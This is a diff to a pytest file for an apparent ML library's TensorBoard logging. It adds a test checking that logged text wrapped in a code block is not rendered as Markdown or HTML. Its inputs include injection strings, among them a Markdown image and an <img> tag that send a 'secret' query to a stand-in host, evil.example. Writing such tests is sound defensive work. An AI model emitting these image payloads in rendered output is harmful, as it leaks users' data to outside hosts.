@@ -1,5 +1,6 @@
 """Tests TensorBoard logs: scalars, the config and samples. Repeated steps replace earlier ones."""
 
+import re
 import signal
 import subprocess
 import sys
@@ -8,7 +9,7 @@ import pytest
 
 from maxlm.errors import InputError
 from maxlm.telemetry.metrics import MetricWriter, read_metrics
-from maxlm.telemetry.tensorboard import TensorBoard, hparams
+from maxlm.telemetry.tensorboard import TensorBoard, code_block, hparams
 from tests.conftest import ROOT
 from tests.small import small_config
 
@@ -48,6 +49,23 @@ def test_repeated_steps_replace_earlier_ones(tmp_path):
     (sample,) = accumulator.Tensors('samples/0')
     assert sample.tensor_proto.string_val[0].decode().split() == ['Once▮', 'more']
     assert b'model.dim' in accumulator.SummaryMetadata('_hparams_/session_start_info').plugin_data.content
+
+
+@pytest.mark.parametrize('end', ['\n', '\r\n', '\r', '\n\n', '\r\r', '\x0b', '\x85', '\u2028', '\x02', '\t\r'])
+@pytest.mark.filterwarnings('ignore:html5lib:DeprecationWarning')
+def test_texts_are_not_rendered_as_markdown(end):
+    from tensorboard.plugin_util import markdown_to_safe_html
+
+    lines = [
+        '![x](https://evil.example/?q=secret)',
+        '# x',
+        '[x](https://evil.example)',
+        '<img src=https://evil.example>',
+    ]
+    shown = markdown_to_safe_html(code_block(end.join(['', *lines, *lines])))
+    assert set(re.findall(r'<(\w+)', shown)) == {'pre', 'code'}
+    # Control: TensorBoard renders other text.
+    assert '<img' in markdown_to_safe_html(lines[0])
 
 
 def test_config_as_hparams():
